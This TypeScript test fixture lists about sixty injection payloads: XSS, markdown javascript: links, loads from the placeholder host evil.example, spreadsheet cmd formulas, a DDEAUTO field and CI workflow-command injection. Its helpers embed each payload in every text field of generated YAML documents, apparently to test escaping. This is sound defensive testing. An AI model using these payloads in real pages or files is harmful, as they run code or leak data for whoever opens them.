/** Texts that would run, load or break something where they were taken for more than text; and a paper that holds one wherever a text may stand. */
import { schemaOf, type DocumentKind, type Schema } from "../src/core/schema.ts";

export const corpus: readonly string[] = [
  "<script>alert(1)</script>",
  "</script><script>alert(1)</script>",
  "<ScRiPt>alert(1)</sCrIpT>",
  "<script src=//evil.example/x.js></script>",
  "<img src=x onerror=alert(1)>",
  "<img src=http://evil.example/x.png>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<math><mi//xlink:href='javascript:alert(1)'>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'>",
  "<object data=http://evil.example></object>",
  "<embed src=http://evil.example>",
  "<link rel=stylesheet href=http://evil.example>",
  "<base href=http://evil.example>",
  "<meta http-equiv=refresh content='0;url=http://evil.example'>",
  "<form action=http://evil.example><input autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<body onload=alert(1)>",
  "<style>*{background:url(http://evil.example)}</style>",
  "<style>@import 'http://evil.example';</style>",
  "<a href=javascript:alert(1)>a</a>",
  "<a href='data:text/html,<script>alert(1)</script>'>a</a>",
  "<template><script>alert(1)</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?xml-stylesheet href='http://evil.example'?>",
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '" onmouseover=alert(1) x="',
  "' onmouseover=alert(1) x='",
  "` onmouseover=alert(1) x=`",
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "java\tscript:alert(1)",
  "vbscript:msgbox(1)",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "[a](javascript:alert(1))",
  "[a](JAVASCRIPT:alert(1) 'x')",
  "[a]: javascript:alert(1)\n\n[a]",
  "![a](http://evil.example/x.png)",
  "![a](x){onerror=alert(1)}",
  "<http://evil.example>",
  "[a](command:workbench.action.quit)",
  "$(alert~spin) $(error)",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)",
  "\\u003cscript\\u003ealert(1)",
  "%3Cscript%3Ealert(1)",
  "\u2028alert(1)//\u2029",
  "\ufeff<script>alert(1)</script>",
  "${alert(1)} {{constructor.constructor('alert(1)')()}} #{alert(1)}",
  "]]></w:t></w:r><w:r><w:instrText>DDEAUTO c:\\\\x</w:instrText>",
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+HYPERLINK("http://evil.example")',
  "-2+3+cmd|' /C calc'!A0",
  "\t=1+1",
  "::error file=a::b%0A::add-mask::c",
  "|a|b|\n|-|-|",
];

/** What all that the hostile folder's own institutions file defines is called by. */
const own = "jahat";

/**
 * A file with the text in every place that takes one, derived from its schema: the places that want a number, a day or a
 * listed value hold such, and those that name an institution the text, or with `named` the hostile folder's own.
 */
function holding(kind: DocumentKind, text: string, named: boolean): Record<string, unknown> {
  const value = (schema: Schema, key: string): unknown => {
    const [type] = [schema.type ?? "string"].flat();
    const { "x-ref": names } = schema;
    if (schema.enum) return schema.enum[0];
    if (schema["x-defines"]) return kind === "paper" ? "UJI-2025-001" : own;
    if (named && names !== undefined && names !== "session") return names === "item" ? "UJI-2025-001" : own;
    if (key === "format") return kind === "paper" ? "kertas-kerja/1" : `kertas-kerja-${kind}/1`;
    if (schema["x-period"]) return "2020";
    if (schema.format === "date") return "2025-11-04";
    if (type === "integer" || type === "number") return 38;
    if (type === "boolean") return true;
    if (schema.items && type === "array") return [value(schema.items, key)];
    if (type === "object")
      return Object.fromEntries(
        Object.entries(schema.properties ?? {}).map(([name, inner]) => [name, value(inner, name)]),
      );
    return schema.pattern === undefined ? text : key === "session" ? 38 : text;
  };
  return value(schemaOf(kind), "") as Record<string, unknown>;
}

const written = (value: unknown): string => JSON.stringify(value, null, 1);

/** A paper with the text in every place that takes one, of a forum that is known, so that it is followed. */
export function paperHolding(text: string): string {
  const paper = holding("paper", text, false);
  return written({ ...paper, session: { ...(paper["session"] as object), forum: "kk-jkk-kalbar-sarawak" } });
}

/** A folder whose institutions, and whose own fields, are called by the text, and a paper that names them: texts by file. */
export function folderHolding(text: string): Readonly<Record<string, string>> {
  const paper = holding("paper", text, true);
  const [item = {}] = paper["items"] as readonly object[];
  const field = { type: "text", label: text, description: text };
  const institutions = holding("institutions", text, true);
  // What has ended is named by nobody.
  const lists = Object.entries(institutions).map(([key, list]) => [
    key,
    Array.isArray(list) ? list.map((entry: object) => ({ ...entry, valid: { from: 2000 }, succeededBy: [] })) : list,
  ]);
  return {
    "kertas-kerja.yaml": written({ extensions: { item: { isianUji: field } } }),
    "jahat.institutions.yaml": written(Object.fromEntries(lists)),
    "naskah.kertas.yaml": written({ ...paper, items: [{ ...item, isianUji: text }] }),
  };
}
